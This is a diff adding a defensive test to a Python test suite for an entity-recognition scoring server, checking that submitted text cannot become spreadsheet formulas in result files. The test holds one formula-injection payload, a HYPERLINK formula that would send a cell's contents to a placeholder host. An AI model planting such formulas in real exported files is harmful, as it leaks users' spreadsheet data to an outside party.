@@ -20,6 +20,7 @@ from metaserver.leaderboards.scoreboard import GoldMark, Scoreboard, ScoredTask
 from metaserver.model.errors import InputError
 from metaserver.model.records import ArticleId, ServerName
 from metaserver.tasks.ner import NER
+from metaserver.uniprot.vocabulary import FormatVocabulary
 from metaserver.wire.report import Report, Severity
 from scoring.semeval_files import read_ner_gold, read_ner_run
 from scoring.semeval_ner import NerScorecard, evaluate
@@ -240,3 +241,15 @@ class TestTheDemo:
         [row] = board.board(NER.name).rows
         assert row.articles_scored == 32
         assert 0.7 < (row.values["strict_f"] or 0) < (row.values["exact_f"] or 0) < 1
+
+
+def test_a_servers_words_are_no_formula_in_a_result_file() -> None:
+    report, attack = Report(), '=HYPERLINK("http://x/?"&A1,"see")'
+    sent = [
+        {"offset": 0, "mention": "=1+1", "type": "gene"},
+        {"offset": 9, "mention": "p53", "type": attack},
+    ]
+    payload = NER.check(sent, report, FormatVocabulary())
+    assert payload == [[0, "=1+1", "gene"]]
+    assert "expected a word" in report.problems[0].message
+    assert list(NER.result_lines([("a1", payload)])) == ["a1\t0-3\t'=1+1\tgene\n"]
